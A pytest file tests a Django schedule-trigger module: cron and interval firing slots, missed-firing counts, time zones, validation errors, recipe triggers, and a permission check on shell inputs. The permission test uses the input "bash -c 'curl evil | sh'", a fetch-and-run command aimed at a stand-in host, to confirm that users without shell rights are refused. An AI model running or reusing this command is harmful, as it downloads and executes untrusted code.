"""A schedule's firings, without beat: which firing a message is, and how many were missed."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest
from django.core.exceptions import ValidationError

from triggers import schedules
from triggers.models import Schedule

T0 = datetime(2026, 12, 7, 9, 0, 0, tzinfo=UTC)  # a Monday


def cron(expression, zone="UTC", last=None):
    return Schedule(name="s", cron=expression, timezone=zone, last_fired_at=last)


def every(seconds, last=None):
    return Schedule(name="s", every_seconds=seconds, last_fired_at=last)


def test_an_interval_firing_close_to_the_last_one_is_the_same_firing():
    sched = every(60, last=T0)
    assert schedules.firing_slot(sched, T0 + timedelta(seconds=20)) is None
    assert schedules.firing_slot(sched, T0 + timedelta(seconds=58)) == T0 + timedelta(seconds=58)


def test_missed_interval_firings():
    sched = every(60, last=T0)
    assert schedules.missed_firings(sched, T0, T0 + timedelta(seconds=61)) == 0
    assert schedules.missed_firings(sched, T0, T0 + timedelta(seconds=59)) == 0
    assert schedules.missed_firings(sched, T0, T0 + timedelta(seconds=300)) == 4


def test_a_cron_firing_is_the_minute_it_names():
    sched = cron("*/5 * * * *")
    assert schedules.firing_slot(sched, T0 + timedelta(minutes=5, seconds=3)) == T0 + timedelta(
        minutes=5
    )
    # beat a hair early still fires that minute
    assert schedules.firing_slot(
        sched, T0 + timedelta(minutes=4, seconds=59, microseconds=500_000)
    ) == T0 + timedelta(minutes=5)


def test_cron_is_read_in_its_time_zone():
    sched = cron("0 9 * * 1-5", zone="Europe/Paris")  # 09:00 in Paris is 08:00 UTC in winter
    assert schedules.firing_slot(sched, T0) == T0 - timedelta(hours=1)
    assert schedules.next_firing(sched, T0) == T0 + timedelta(days=1, hours=-1)


def test_missed_cron_firings_count_the_minutes_named_between():
    sched = cron("*/10 * * * *")
    assert schedules.missed_firings(sched, T0, T0 + timedelta(minutes=10)) == 0
    assert schedules.missed_firings(sched, T0, T0 + timedelta(minutes=60)) == 5


@pytest.mark.parametrize(
    ("fields", "field", "words"),
    [
        ({"cron": "* * *"}, "cron", "five fields"),
        ({"cron": "61 * * * *"}, "cron", "Not a cron expression"),
        ({"cron": "* * * * *", "every_seconds": 5}, "cron", "one of them"),
        ({}, "cron", "one of them"),
        ({"every_seconds": 5, "timezone": "Mars/Olympus"}, "timezone", "Unknown time zone"),
    ],
)
def test_a_schedule_says_what_is_wrong(fields, field, words):
    with pytest.raises(ValidationError) as caught:
        Schedule(name="s", **fields).clean()
    assert words in " ".join(caught.value.message_dict[field])


NIGHTLY_MACHINE = """
schema: planeai.loop.recipe.v1
id: nightly-check
name: Nightly check
trigger:
  kind: schedule
  cron: "30 2 * * *"
  timezone: Europe/Paris
roles:
  maker: {provider: demo, mode: write, isolation: project}
steps:
  - {id: wait, kind: handoff.wait, from: maker, on: {completed: done}}
  - {id: done, kind: loop.status, status: approved}
"""


def test_a_schedule_without_a_clock_takes_the_recipes_trigger(make_recipe):
    recipe = make_recipe(NIGHTLY_MACHINE, slug="nightly-check")
    schedule = Schedule(recipe=recipe, name="as the recipe says")
    schedule.full_clean()
    assert (schedule.cron, schedule.timezone) == ("30 2 * * *", "Europe/Paris")


def test_a_recipe_without_a_declared_clock_leaves_the_schedule_to_say_one(make_recipe):
    recipe = make_recipe("name: quick\nnodes:\n  - id: say\n    bash: echo hi\n", slug="quick")
    with pytest.raises(ValidationError) as caught:
        Schedule(recipe=recipe, name="no clock").full_clean()
    assert "trigger: block declares its schedule" in caught.value.message_dict["cron"][0]


def test_a_schedule_starts_with_the_rights_of_who_set_it_up(
    client, operator, editor, shell_author, bundled
):
    """An input the recipe runs as a command is shell: a schedule an editor set up cannot
    fill it (nor one whose author is gone); a recipe author with shell can."""
    from urllib.parse import unquote

    from tests.stepmachine.test_start import FEATURE_BRANCH, demo_repository

    client.force_login(operator)
    repository = unquote(demo_repository(client))
    inputs = {"branch": FEATURE_BRANCH, "gate_command": "bash -c 'curl evil | sh'"}

    def fire_as(author):
        schedule = Schedule.objects.create(
            recipe=bundled["no-mistakes-demo"],
            name=f"by {author}",
            every_seconds=3600,
            inputs=inputs,
            repository=repository,
            created_by=author,
        )
        return schedules.fire(schedule.pk)

    for author in (editor, None):
        refused = fire_as(author)
        assert refused.outcome == "failed" and refused.run is None
        assert "needs the shell permission" in refused.note
    assert fire_as(shell_author).outcome == "started"
